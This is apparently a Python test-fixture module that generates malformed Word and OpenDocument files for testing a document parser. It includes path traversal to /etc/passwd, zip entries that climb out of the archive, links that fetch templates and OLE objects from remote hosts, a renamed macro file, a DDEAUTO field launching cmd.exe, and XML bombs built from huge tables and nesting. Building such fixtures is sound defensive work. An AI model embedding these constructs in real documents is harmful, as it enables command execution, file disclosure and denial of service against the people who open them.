"""Word and OpenDocument files whose parts, links and tables are wrong, endless or enormous."""

from __future__ import annotations

import io
import re
import zipfile
from functools import cache
from html import escape

import docx

from tests.hostile import WORDS, hostile
from tests.hostile.bombs import zipped

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ODT = "urn:oasis:names:tc:opendocument:xmlns"
BODY = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"


@cache
def good_docx() -> bytes:
    """A small plan that reads well."""
    document = docx.Document()
    document.add_heading("Supports", level=1)
    document.add_paragraph(WORDS, style="List Bullet")
    document.save(out := io.BytesIO())
    return out.getvalue()


def parts(data: bytes) -> dict[str, bytes]:
    """Return the parts of a zip by name."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_parts(**changed: bytes | None) -> bytes:
    """Return the good plan with some parts changed, or left out where None; `__` stands for a slash."""
    files = parts(good_docx())
    for key, data in changed.items():
        name = {"body": BODY, "relations": RELATIONS, "types": "[Content_Types].xml"}.get(key)
        name = name or key.replace("__", "/")
        if data is None:
            files.pop(name, None)
        else:
            files[name] = data
    return zipped(files)


def document_xml(body: str, prolog: str = "") -> bytes:
    """Return a body part that holds this XML, after a prolog."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document xmlns:w="{W}" xmlns:r="{R}">'
        f"<w:body>{body}<w:sectPr/></w:body></w:document>"
    ).encode()


def paragraph(text: str) -> str:
    """Return a w:p with this text."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def content_xml(body: str, prolog: str = "") -> bytes:
    """Return an OpenDocument content.xml that holds this XML."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<office:document-content '
        f'xmlns:office="{_ODT}:office:1.0" xmlns:text="{_ODT}:text:1.0" '
        f'xmlns:table="{_ODT}:table:1.0"><office:body><office:text>{body}'
        "</office:text></office:body></office:document-content>"
    ).encode()


def odt(body: str, prolog: str = "") -> bytes:
    """Return an OpenDocument text with this body."""
    mime = b"application/vnd.oasis.opendocument.text"
    return zipped({"mimetype": mime, "content.xml": content_xml(body, prolog)})


def related(*relations: str) -> bytes:
    """Return the good plan's list of relations with more of them."""
    old = parts(good_docx())[RELATIONS].decode()
    return old.replace("</Relationships>", "".join(relations) + "</Relationships>").encode()


def relation(kind: str, target: str, *, number: int = 900, external: bool = True) -> str:
    """Return one relation of the body."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId{number}" Type="{R}/{kind}" Target="{target}"{mode}/>'


# --- parts and links ---------------------------------------------------------------------------


@hostile("no-body.docx")
def no_body() -> bytes:
    """The part with the text is missing."""
    return with_parts(body=None)


@hostile("no-types.docx")
def no_types() -> bytes:
    """The list of content types is missing."""
    return with_parts(types=None)


@hostile("no-styles.docx", "reads")
def no_styles() -> bytes:
    """Styles, numbering and settings are missing, and so are the links to them."""
    wanted = re.compile(rb'<Relationship [^>]*Target="(?:styles|numbering|settings)[^>]*/>')
    relations = wanted.sub(b"", parts(good_docx())[RELATIONS])
    return with_parts(relations=relations, word__styles_xml=None)


@hostile("broken-links.docx", "either")
def broken_links() -> bytes:
    """Links lead to parts that are not there."""
    lost = relation("header", "nowhere.xml", external=False)
    return with_parts(relations=related(lost))


@hostile("outside-paths.docx", "either")
def outside_paths() -> bytes:
    """Links climb out of the file to /etc/passwd."""
    up = relation("footnotes", "../../../../etc/passwd", external=False)
    root = relation("header", "/etc/passwd", number=901, external=False)
    return with_parts(relations=related(up, root))


@hostile("climbing-names.docx", "reads")
def climbing_names() -> bytes:
    """Entries of the zip are called ../../evil and /evil.xml."""
    files = parts(good_docx())
    return zipped({**files, "../../../tmp/evil.xml": b"<a/>", "/evil.xml": b"<a/>"})


@hostile("outside-links.docx", "reads")
def outside_links() -> bytes:
    """Template, picture, frame and header are to be fetched from other computers."""
    links = [
        relation("attachedTemplate", "http://192.0.2.1/t.dotm"),
        relation("image", "http://192.0.2.1/seen.png", number=901),
        relation("frame", "file://///192.0.2.1/share/x", number=902),
        relation("hyperlink", "javascript:alert(1)", number=903),
        relation("oleObject", "http://192.0.2.1/o.bin", number=904),
    ]
    return with_parts(relations=related(*links))


@hostile("outside-header.docx", "either")
def outside_header() -> bytes:
    """The header of the page is a link to another computer."""
    reference = '<w:sectPr><w:headerReference w:type="default" r:id="rId900"/></w:sectPr>'
    body = document_xml(paragraph(WORDS) + f"<w:p><w:pPr>{reference}</w:pPr></w:p>")
    return with_parts(body=body, relations=related(relation("header", "http://192.0.2.1/h.xml")))


@hostile("header-is-picture.docx", "either")
def header_is_picture() -> bytes:
    """The header of the page is a part that is no XML."""
    reference = '<w:sectPr><w:headerReference w:type="default" r:id="rId900"/></w:sectPr>'
    body = document_xml(paragraph(WORDS) + f"<w:p><w:pPr>{reference}</w:pPr></w:p>")
    link = relation("header", "media/a.png", external=False)
    types = parts(good_docx())["[Content_Types].xml"].replace(
        b"<Override", b'<Default Extension="png" ContentType="image/png"/><Override', 1
    )
    return zipped(
        {
            **parts(with_parts(body=body, relations=related(link), types=types)),
            "word/media/a.png": b"\x89PNG",
        }
    )


@hostile("macros.docx")
def macros() -> bytes:
    """A file with macros (.docm), renamed."""
    files = parts(good_docx())
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    types = files["[Content_Types].xml"].replace(main, macro)
    binary = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    types = types.replace(b"<Override", binary + b"<Override", 1)
    return zipped(
        {
            **files,
            "[Content_Types].xml": types,
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600,
            RELATIONS: related(
                '<Relationship Id="rId950" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="vbaProject.bin"/>'
            ),
        }
    )


@hostile("active-content.docx", "reads")
def active_content() -> bytes:
    """Fields that run programs or fetch files: DDEAUTO, INCLUDETEXT, INCLUDEPICTURE, HYPERLINK."""
    codes = (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        'INCLUDETEXT "file:///etc/passwd"',
        'INCLUDEPICTURE "http://192.0.2.1/x.png" \\d',
        'HYPERLINK "javascript:alert(1)"',
    )
    fields = "".join(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f"{escape(code)}</w:instrText></w:r><w:r>"
        '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in codes
    )
    return with_parts(body=document_xml(paragraph(WORDS) + fields))


# --- sizes and numbers -------------------------------------------------------------------------


@hostile("two-million-runs.docx", "either", quick=False)
def two_million_runs() -> bytes:
    """Two million runs of one letter in one paragraph."""
    return with_parts(body=document_xml("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 2_000_000 + "</w:p>"))


@hostile("million-cells.docx", "either", quick=False)
def million_cells() -> bytes:
    """A table of 5,000 rows and 200 columns."""
    row = "<w:tr>" + f"<w:tc>{paragraph('Help as needed')}</w:tc>" * 200 + "</w:tr>"
    return with_parts(body=document_xml("<w:tbl>" + row * 5_000 + "</w:tbl>"))


@hostile("nested-tables.docx", "either")
def nested_tables() -> bytes:
    """A table in a table, a thousand deep."""
    inner = paragraph(WORDS)
    open_, close = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return with_parts(body=document_xml(open_ * 1_000 + inner + close * 1_000))


@hostile("nested-tables-80.docx", "either")
def nested_tables_80() -> bytes:
    """A table in a table, as deep as the XML reader allows, two cells each."""
    open_ = f"<w:tbl><w:tr><w:tc>{paragraph('side')}</w:tc><w:tc>"
    close = "<w:p/></w:tc></w:tr></w:tbl>"
    return with_parts(body=document_xml(open_ * 80 + paragraph(WORDS) + close * 80))


@hostile("wrong-numbers.docx", "either")
def wrong_numbers() -> bytes:
    """Spans, levels, sizes and symbols that are no numbers, negative or enormous."""
    table = (
        '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="x"/></w:trPr><w:tc><w:tcPr><w:gridSpan '
        'w:val="2147483647"/></w:tcPr>{0}</w:tc><w:tc><w:tcPr><w:gridSpan w:val="-5"/></w:tcPr>{0}'
        "</w:tc><w:tc><w:tcPr><w:gridSpan/></w:tcPr>{0}</w:tc></w:tr><w:tr><w:tc>{0}</w:tc></w:tr>"
        "</w:tbl>"
    ).format(paragraph(WORDS))
    odd = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="many"/><w:numId w:val="1"/></w:numPr>'
        '<w:outlineLvl w:val="99999999999"/></w:pPr><w:r><w:rPr><w:sz w:val="nan"/></w:rPr>'
        '<w:t>One line.</w:t></w:r><w:r><w:sym w:char="FFFFFFFF" w:font="Wingdings"/>'
        '<w:sym w:char="zz"/><w:sym w:char="D800"/></w:r></w:p>'
        "<w:p><w:pPr><w:pStyle/><w:numPr><w:numId/></w:numPr></w:pPr><w:r><w:rPr><w:sz "
        'w:val="inf"/></w:rPr><w:t>Two lines.</w:t></w:r></w:p>'
    )
    return with_parts(body=document_xml(table + odd + paragraph(WORDS)))


@hostile("wide-span.docx", "reads")
def wide_span() -> bytes:
    """A cell that says it is two thousand million columns wide."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{}</w:tc><w:tc>{}</w:tc>'
    row = "<w:tr>" + cell.format(paragraph("Support"), paragraph(WORDS)) + "</w:tr>"
    return with_parts(body=document_xml(f"<w:tbl>{row}{row}</w:tbl>"))


@hostile("long-list-number.docx", "reads")
def long_list_number() -> bytes:
    """A list that starts at item two thousand million, in roman numerals and in letters."""
    level = (
        '<w:lvl w:ilvl="{}"><w:start w:val="2000000000"/><w:numFmt w:val="{}"/>'
        '<w:lvlText w:val="%1.%2.%9."/></w:lvl>'
    )
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="1">'
        + level.format(0, "lowerRoman")
        + level.format(1, "upperLetter")
        + '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    item = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>{}</w:t></w:r></w:p>"
    )
    body = document_xml(item.format(0, "First.") + item.format(1, WORDS))
    files = parts(with_parts(body=body))
    return zipped({**files, "word/numbering.xml": numbering.encode()})


@hostile("styles-in-a-circle.docx", "reads")
def styles_in_a_circle() -> bytes:
    """Two styles that are each based on the other."""
    style = '<w:style w:type="paragraph" w:styleId="{0}"><w:name w:val="{0}"/><w:basedOn w:val="{1}"/></w:style>'
    styles = f'<w:styles xmlns:w="{W}">{style.format("A", "B")}{style.format("B", "A")}</w:styles>'
    body = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>' + WORDS + "</w:t></w:r></w:p>"
    files = parts(with_parts(body=document_xml(body)))
    return zipped({**files, "word/styles.xml": styles.encode()})


@hostile("repeated-cells.odt", "either")
def repeated_cells() -> bytes:
    """Cells that say they are repeated and spanned two thousand million times; odd numbers too."""
    cell = (
        '<table:table-cell table:number-columns-repeated="{0}" table:number-columns-spanned="{0}" '
        'table:number-rows-spanned="{0}"><text:p>' + WORDS + "</text:p></table:table-cell>"
    )
    row = "<table:table-row>" + "".join(map(cell.format, ("2000000000", "x", "-1"))) * 2
    heading = '<text:h text:outline-level="big">Supports</text:h>'
    return odt(f"{heading}<table:table>{(row + '</table:table-row>') * 2}</table:table>")


@hostile("deep-lists.odt", "either")
def deep_lists() -> bytes:
    """A list in a list, as deep as the XML reader allows."""
    return odt(
        "<text:list><text:list-item>" * 120
        + f"<text:p>{WORDS}</text:p>"
        + "</text:list-item></text:list>" * 120
    )
